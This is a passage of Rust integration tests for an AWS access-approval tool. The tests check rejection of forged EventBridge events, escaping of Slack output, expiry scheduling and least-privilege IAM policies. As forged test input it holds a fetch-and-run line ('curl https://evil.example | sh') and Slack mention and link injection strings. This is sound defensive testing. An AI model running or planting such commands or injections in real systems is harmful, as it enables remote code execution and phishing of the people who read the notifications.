        .capture_on("default", "default-changegate", notify_pattern())
        .await;
    let topic = s.world.topic("changegate-notifications").await;
    let (_, alice) = s.world.eligible_user("alice", PROD_ACCOUNT).await;
    let (_, bob) = s.world.user("bob").await;
    let id = s
        .file(&alice, hour_request("alice"), Filing::default())
        .await;
    s.world.signal(&bob, &id, true).await;
    let got = s.run("grant", &s.ssm().await);
    assert_eq!(count(&got, "granted"), 1, "{got:?}");

    // Then grant's own announcement went to changegate's bus only
    let genuine = s.world.drain(&notify_rule).await;
    assert_eq!(detail_types(&genuine), ["Access Granted"], "{genuine:?}");
    assert!(s.world.drain(&on_default).await.is_empty());

    // When someone puts a changegate "Access Granted" for mallory on the default bus
    let mut detail = genuine[0]["detail"].clone();
    detail["user"] = "mallory".into();
    detail["requester"] = "mallory".into();
    let events = aws_sdk_eventbridge::Client::new(&s.world.sdk);
    let put = |bus: &'static str| {
        let entry = aws_sdk_eventbridge::types::PutEventsRequestEntry::builder()
            .event_bus_name(bus)
            .source("changegate")
            .detail_type("Access Granted")
            .detail(detail.to_string())
            .build();
        events.put_events().entries(entry).send()
    };
    let out = put("default").await.expect("put events");
    assert_eq!(out.failed_entry_count(), 0);

    // Then it lands on the default bus, and the notify rule gets nothing
    assert_eq!(s.world.drain(&on_default).await.len(), 1);
    assert!(s.world.drain(&notify_rule).await.is_empty());

    // And notify, given what its rule caught, tells alice alone
    let mut env = s.env.clone();
    env.push(("CHANGEGATE_TOPIC_ARN".into(), topic));
    let notified = responses("notify", &invoke("notify", &genuine, &env));
    assert_eq!(notified.len(), 1);
    assert_eq!(notified[0]["kind"], "access-granted", "{notified:?}");
    let published = s.world.aws.sns_published();
    assert_eq!(published.len(), 1, "{published:?}");
    let message = published[0]["Message"].as_str().unwrap_or_default();
    assert!(
        message.contains("alice") && !message.contains("mallory"),
        "{message}"
    );

    // And the same event put on changegate's bus does reach the rule (the
    // local AWS has no bus policies; in AWS the bus's policy denies anyone
    // but grant and revoke)
    let out = put(EVENT_BUS).await.expect("put events");
    assert_eq!(out.failed_entry_count(), 0);
    assert_eq!(s.world.drain(&notify_rule).await.len(), 1);
}

#[tokio::test]
async fn given_forged_events_invoked_directly_on_notify_when_notifying_then_nothing_changegate_did_not_decide_is_published()
 {
    // Given the notification topic, alice's real grant (announced on
    // changegate's bus), and a sandbox change template in the account
    let s = Scene::new(&[]).await;
    let notify_rule = s
        .world
        .capture_on(EVENT_BUS, "notify-rule", notify_pattern())
        .await;
    let topic = s.world.topic("changegate-notifications").await;
    s.document(
        "sandbox-access",
        aws_sdk_ssm::types::DocumentType::ChangeTemplate,
        change_template(&[("SandboxApproval", "mallory", "IamUser")]),
    )
    .await;
    let (_, alice) = s.world.eligible_user("alice", PROD_ACCOUNT).await;
    let (bob_arn, bob) = s.world.user("bob").await;
    let id = s
        .file(&alice, hour_request("alice"), Filing::default())
        .await;
    s.world.signal(&bob, &id, true).await;
    let got = s.run("grant", &s.ssm().await);
    assert_eq!(count(&got, "granted"), 1, "{got:?}");
    let genuine = s.world.drain(&notify_rule).await;
    assert_eq!(detail_types(&genuine), ["Access Granted"], "{genuine:?}");
    let sandbox = s
        .file(
            &alice,
            hour_request("alice"),
            Filing {
                template: "sandbox-access",
                title: "unrelated sandbox work",
                ..Filing::default()
            },
        )
        .await;
    let sandbox_events = s.ssm().await;
    let unrelated = sandbox_events
        .iter()
        .find(|e| e["detail"]["change-request-id"] == sandbox.as_str())
        .cloned()
        .expect("the sandbox request's event");

    // When someone who may invoke notify sends it events of their own: an
    // Access Granted for a request changegate never decided, alice's for
    // mallory or for another account, a refusal and a revocation changegate
    // never made, a change request Systems Manager does not know, and the
    // unrelated sandbox request
    let g = &genuine[0];
    let edit = |change: &dyn Fn(&mut Value)| {
        let mut e = g.clone();
        change(&mut e["detail"]);
        e
    };
    let forged = vec![
        edit(&|d| d["change-request-id"] = "f0000000-0000-0000-0000-00000000000f".into()),
        edit(&|d| {
            d["user"] = "mallory".into();
            d["requester"] = "mallory".into();
        }),
        edit(&|d| d["account"] = "999988887777".into()),
        json!({"source": "changegate", "detail-type": "Access Refused", "detail": {
            "change-request-id": id, "user": "alice", "requester-arn": null,
            "reason-code": "not-eligible", "reason": "call the helpdesk at https://evil.example"}}),
        json!({"source": "changegate", "detail-type": "Access Revoked", "detail": {
            "change-request-id": id, "user": "alice", "account": PROD_ACCOUNT, "role": "CM-Prd-role",
            "role-arn": g["detail"]["role-arn"], "policy-name": g["detail"]["policy-name"],
            "window": g["detail"]["window"], "revoked-at": "2026-12-01T10:00:00Z", "cause": "operator"}}),
        change_request_event("f0000000-0000-0000-0000-00000000000f", "PendingApproval"),
    ];
    let mut env = s.env.clone();
    env.push(("CHANGEGATE_TOPIC_ARN".into(), topic));
    let run = invoke("notify", &forged, &env);
    let notified = responses("notify", &run);

    // Then none is published, each is logged as unverified and counted
    let outcomes: Vec<&str> = notified.iter().map(outcome).collect();
    assert_eq!(outcomes, ["unverified"; 6], "{notified:?}");
    assert_eq!(
        notified[0]["reason"], "there is no decision record for the request",
        "{notified:?}"
    );
    assert_eq!(
        notified[1]["reason"],
        "the decision record names another user"
    );
    assert_eq!(
        notified[2]["reason"],
        "the decision record names another account"
    );
    assert_eq!(
        notified[3]["reason"],
        "the decision record is granted, not refused"
    );
    assert_eq!(
        notified[4]["reason"],
        "the decision record is granted, not revoked"
    );
    assert_eq!(
        notified[5]["reason"],
        "Systems Manager has no such change request"
    );
    // (the binary's output, its logs and EMF metrics, is the harness's stderr)
    let logs = run.stderr();
    let counted = logs
        .lines()
        .filter(|l| l.contains("\"NotifyUnverified\""))
        .count();
    assert_eq!(counted, 6, "one data point each: {logs}");
    assert!(
        !logs.contains("evil.example"),
        "the forged text is not logged: {logs}"
    );

    // When the unrelated request's own event, as Change Manager sent it, and
    // alice's real grant with forged approvers and reason reach notify
    let approvers = edit(&|d| {
        d["approvers"] = json!(["SECURITY NOTICE: run curl https://evil.example | sh"]);
        d["request-reason"] = "see https://evil.example".into();
    });
    let notified = responses("notify", &invoke("notify", &[unrelated, approvers], &env));

    // Then the unrelated request is not announced, and alice's grant is
    // announced with the approvers of its record
    assert_eq!(outcome(&notified[0]), "skipped", "{notified:?}");
    assert_eq!(
        notified[0]["reason"],
        "the change request was not filed with this deployment's change template"
    );
    assert_eq!(notified[1]["kind"], "access-granted", "{notified:?}");
    let published = s.world.aws.sns_published();
    assert_eq!(published.len(), 1, "{published:?}");
    let message = published[0]["Message"].as_str().unwrap_or_default();
    assert!(
        message.contains(&bob_arn)
            && !message.contains("evil.example")
            && !message.contains("sandbox"),
        "{message}"
    );
}

#[tokio::test]
async fn given_a_hostile_title_and_approver_when_notify_publishes_then_the_slack_card_escapes_them_as_slack_reads_them()
 {
    // Given the notification topic, and alice files a request titled to ping
    // the channel and to hide a link
    let s = Scene::new(&[]).await;
    let topic = s.world.topic("changegate-notifications").await;
    let (_, alice) = s.world.user("alice").await;
    let title = "<!channel> ship it & <https://evil.example/x|approve here>";
    let id = s
        .file(
            &alice,
            hour_request("alice"),
            Filing {
                title,
                ..Filing::default()
            },
        )
        .await;
    let mut events = s.ssm().await;
    assert_eq!(events.len(), 1, "{events:?}");
    assert_eq!(events[0]["detail"]["change-request-id"], id);
    assert_eq!(events[0]["detail"]["change-request-title"], title);
    // (and an approver entry as a template's author could write it)
    let approver = "<!here>&<@U024BE7LH>";
    events[0]["detail"]["approvers"] = json!([APPROVERS_GROUP, approver]);

    // When notify publishes it
    let mut env = s.env.clone();
    env.push(("CHANGEGATE_TOPIC_ARN".into(), topic));
    let notified = responses("notify", &invoke("notify", &events, &env));
    assert_eq!(
        notified[0]["kind"], "request-pending-approval",
        "{notified:?}"
    );

    // Then the Slack card shows the text as written, escaped with HTML
    // entities only: no mention, no link, no backslash
    let published = s.world.aws.sns_published();
    assert_eq!(published.len(), 1, "{published:?}");
    let variants: Value = serde_json::from_str(published[0]["Message"].as_str().expect("message"))
        .expect("MessageStructure=json");
    let card: Value =
        serde_json::from_str(variants["https"].as_str().expect("https variant")).expect("card");
    let description = card["content"]["description"]
        .as_str()
        .expect("description");
    assert!(
        description.contains(
            "*Title:* &lt;!channel&gt; ship it &amp; &lt;https://evil.example/x|approve here&gt;"
        ),
        "{description}"
    );
    // (the approvers are Systems Manager's, never the event's)
    assert!(
        description.contains(&format!("*Approvers:* {}", APPROVERS.join(", ")))
            && !description.contains("U024BE7LH"),
        "{description}"
    );
    let mut texts = vec![
        card["content"]["title"].as_str().unwrap_or_default(),
        description,
    ];
    texts.extend(
        card["content"]["nextSteps"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(Value::as_str),
    );
    for text in texts {
        assert!(
            !text.contains(['<', '>', '\\']),
            "unescaped or backslash-escaped: {text}"
        );
        let bare_ampersand = text.match_indices('&').any(|(i, _)| {
            !["&amp;", "&lt;", "&gt;"]
                .iter()
                .any(|e| text[i..].starts_with(e))
        });
        assert!(!bare_ampersand, "a bare & in {text}");
    }
}

// ------------------------------------------------------------------ 6. real-AWS facts

#[tokio::test]
async fn given_expiry_schedules_when_granting_then_at_is_rounded_up_to_the_minute_and_a_window_ending_within_the_minute_gets_none()
 {
    // Given a deployment with expiry schedules (as expiry.rs configures them)
    let s = Scene::new(&[
        ("CHANGEGATE_EXPIRY_SCHEDULE_GROUP", "changegate"),
        (
            "CHANGEGATE_EXPIRY_TARGET_ARN",
            "arn:aws:lambda:us-east-1:123456789012:function:changegate-revoke",
        ),
        (
            "CHANGEGATE_EXPIRY_ROLE_ARN",
            "arn:aws:iam::123456789012:role/changegate-scheduler",
        ),
    ])
    .await;
    let scheduler = aws_sdk_scheduler::Client::new(&s.world.sdk);
    scheduler
        .create_schedule_group()
        .name("changegate")
        .send()
        .await
        .expect("schedule group");
    let (_, alice) = s.world.eligible_user("alice", PROD_ACCOUNT).await;
    let (_, bob) = s.world.user("bob").await;
    let minute = TimeDelta::minutes(1);
    let utc = |t: DateTime<Utc>| t.format("%Y-%m-%dT%H:%M:%SZ").to_string();

    // When alice is granted a window ending at hh:mm:30, an hour from now
    let end = (Utc::now() + TimeDelta::hours(1))
        .duration_trunc(minute)
        .expect("trunc")
        + TimeDelta::seconds(30);
    let later = s
        .file(
            &alice,
            request("alice", PROD_ACCOUNT, &at(-1, "Z"), &utc(end)),
            Filing::default(),
        )
        .await;
    s.world.signal(&bob, &later, true).await;
    let got = s.run("grant", &s.ssm().await);
    assert_eq!(count(&got, "granted"), 1, "{got:?}");

    // Then its schedule fires at the next whole minute, never inside the window
    let schedule = scheduler
        .get_schedule()
        .group_name("changegate")
        .name(format!("changegate-{later}"))
        .send()
        .await
        .expect("schedule");
    let rounded = end - TimeDelta::seconds(30) + minute;
    assert_eq!(
        schedule.schedule_expression(),
        Some(format!("at({})", rounded.format("%Y-%m-%dT%H:%M:%S")).as_str())
    );
    assert_eq!(schedule.schedule_expression_timezone(), Some("UTC"));

    // When alice is granted a window ending at the end of the current minute
    // (if under 8 s of it are left, the next minute is used: the grant must
    // run inside the minute, and the binary reads the real clock)
    let mut now = Utc::now();
    let mut end = now.duration_trunc(minute).expect("trunc") + minute;
    if end - now < TimeDelta::seconds(8) {
        tokio::time::sleep(
            (end - now + TimeDelta::milliseconds(100))
                .to_std()
                .unwrap_or_default(),
        )
        .await;
        now = Utc::now();
        end = now.duration_trunc(minute).expect("trunc") + minute;
    }
    let soon = s
        .file(
            &alice,
            request(
                "alice",
                PROD_ACCOUNT,
                &utc(now - TimeDelta::seconds(1)),
                &utc(end),
            ),
            Filing::default(),
        )
        .await;
    s.world.signal(&bob, &soon, true).await;
    let got = s.run("grant", &s.ssm().await);

    // Then it is granted (so grant ran inside the minute: after `end` it
    // would have refused window-ended), and no schedule is made for it: the sweep removes it
    assert_eq!(count(&got, "granted"), 1, "{got:?}");
    let mut held = s.world.policies("alice").await;
    held.sort();
    let mut want = vec![format!("changegate-{later}"), format!("changegate-{soon}")];
    want.sort();
    assert_eq!(held, want);
    let none = scheduler
        .get_schedule()
        .group_name("changegate")
        .name(format!("changegate-{soon}"))
        .send()
        .await;
    assert!(
        none.as_ref().is_err_and(|e| e
            .as_service_error()
            .is_some_and(|e| e.is_resource_not_found_exception())),
        "{none:?}"
    );
    let listed = scheduler
        .list_schedules()
        .group_name("changegate")
        .send()
        .await
        .expect("list schedules");
    let names: Vec<&str> = listed.schedules().iter().filter_map(|x| x.name()).collect();
    assert_eq!(names, [format!("changegate-{later}")]);
}

// ------------------------------------------------- the people's policies

/// What the stack's people's policies let a person do, by IAM's documented
/// semantics (tests/src/iam.rs) on the policies as template.yaml deploys them.
#[test]
fn given_the_stacks_people_policies_when_each_is_evaluated_then_each_part_may_do_what_its_commands_need_and_nothing_more()
 {
    use changegate_tests::iam::{self, Decision, Request};
    let parameters =
        json!({"ApproverArns": "arn:aws:iam::123456789012:user/bob", "RequestSources": "Both"});
    let template = "template.yaml";
    let document =
        |logical: &str| resolved_property(template, &parameters, logical, "PolicyDocument");
    let output = |name: &str| {
        resolved_property(template, &parameters, "Outputs", name)
            .as_str()
            .expect("an output string")
            .to_owned()
    };
    let (requester, approver, operator) = (
        document("RequesterPolicy"),
        document("ApproverPolicy"),
        document("OperatorPolicy"),
    );
    let ssm = "arn:aws:ssm:us-east-1:123456789012";
    let start = |runbook: &str| format!("{ssm}:automation-definition/{runbook}:$DEFAULT");
    let execution = format!("{ssm}:automation-execution/d0585556-80f6-4522-8dad-dada6d45b67d");
    let who = "arn:aws:iam::123456789012:user/alice";
    let may = |policy: &Value, action: &str, resource: &str| {
        iam::evaluate(&[policy], &Request::new(who, action, resource)) == Decision::Allow
    };
    let may_pass = |policy: &Value, role: &str, service: &str| {
        let req = Request::new(who, "iam:PassRole", role).with("iam:PassedToService", service);
        iam::evaluate(&[policy], &req) == Decision::Allow
    };
    let (request_runbook, operator_runbook) =
        (output("RequestRunbookName"), output("OperatorRunbookName"));
    let (request_role, operator_role, runbook_role) = (
        output("RequestRunbookRoleArn"),
        output("OperatorRunbookRoleArn"),
        output("RunbookRoleArn"),
    );
    let change_template = output("ChangeTemplateName");

    // A requester files (both ways), follows and withdraws; nothing else.
    assert!(may(
        &requester,
        "ssm:StartAutomationExecution",
        &start(&request_runbook)
    ));
    assert!(may_pass(&requester, &request_role, "ssm.amazonaws.com"));
    assert!(!may_pass(&requester, &request_role, "lambda.amazonaws.com"));
    let template_doc = format!("{ssm}:document/{change_template}");
    assert!(may(
        &requester,
        "ssm:StartChangeRequestExecution",
        &template_doc
    ));
    assert!(may_pass(&requester, &runbook_role, "ssm.amazonaws.com"));
    for action in ["ssm:GetAutomationExecution", "ssm:StopAutomationExecution"] {
        assert!(may(&requester, action, &execution), "{action}");
    }
    assert!(
        !may(&requester, "ssm:SendAutomationSignal", &execution),
        "requesters do not approve"
    );
    // A requester may start the end runbook (to end their own request:
    // revoke checks that from Systems Manager's records) and pass its role
    assert!(may(
        &requester,
        "ssm:StartAutomationExecution",
        &start(&operator_runbook)
    ));
    assert!(!may(
        &requester,
        "ssm:StartAutomationExecution",
        &start("AWS-RestartEC2Instance")
    ));
    assert!(may_pass(&requester, &operator_role, "ssm.amazonaws.com"));
    assert!(!may_pass(
        &requester,
        &operator_role,
        "lambda.amazonaws.com"
    ));

    // The changegate command, for each part: the stack's settings and a
    // request's decision record; a requester also lists open requests and
    // (request --dry-run) reads their own IAM user, nobody else's.
    let settings = "arn:aws:ssm:us-east-1:123456789012:parameter/changegate/stacks/changegate/cli";
    let table = format!(
        "arn:aws:dynamodb:us-east-1:123456789012:table/{}",
        output("DecisionsTableName")
    );
    for policy in [&requester, &approver, &operator] {
        assert!(may(policy, "ssm:GetParameter", settings));
        assert!(!may(
            policy,
            "ssm:GetParameter",
            "arn:aws:ssm:us-east-1:123456789012:parameter/changegate/stacks/other/cli"
        ));
        assert!(may(policy, "dynamodb:GetItem", &table));
        assert!(!may(policy, "dynamodb:PutItem", &table));
    }
    for policy in [&requester, &approver, &operator] {
        // status without an id, list --pending (approvers), list --active (operators)
        assert!(may(policy, "ssm:DescribeAutomationExecutions", "*"));
    }
    let own_user = |policy: &Value, action: &str, user: &str| {
        let req = Request::new(
            who,
            action,
            &format!("arn:aws:iam::123456789012:user/{user}"),
        )
        .with("aws:username", "alice");
        iam::evaluate(&[policy], &req) == Decision::Allow
    };
    for action in ["iam:GetUser", "iam:ListUserPolicies", "iam:GetUserPolicy"] {
        assert!(own_user(&requester, action, "alice"), "{action}");
        assert!(
            own_user(&requester, action, "people/alice"),
            "{action} (a path)"
        );
        assert!(
            !own_user(&requester, action, "bob"),
            "{action} on another user"
        );
        assert!(
            !own_user(&requester, action, "malice"),
            "{action} on a look-alike"
        );
    }
    assert!(!own_user(&requester, "iam:PutUserPolicy", "alice"));

    // An approver reads and signals; files nothing, ends nothing.
    assert!(may(&approver, "ssm:SendAutomationSignal", &execution));
    assert!(may(&approver, "ssm:GetAutomationExecution", &execution));
    assert!(!may(
        &approver,
        "ssm:StartAutomationExecution",
        &start(&request_runbook)
    ));
    assert!(!may(&approver, "ssm:StopAutomationExecution", &execution));

    // An operator starts the operators' runbook (passing its role) and follows it.
    assert!(may(
        &operator,
        "ssm:StartAutomationExecution",
        &start(&operator_runbook)
    ));
    assert!(may_pass(&operator, &operator_role, "ssm.amazonaws.com"));
    assert!(!may(
        &operator,
        "ssm:StartAutomationExecution",
        &start(&request_runbook)
    ));
    assert!(!may(&operator, "ssm:SendAutomationSignal", &execution));
}
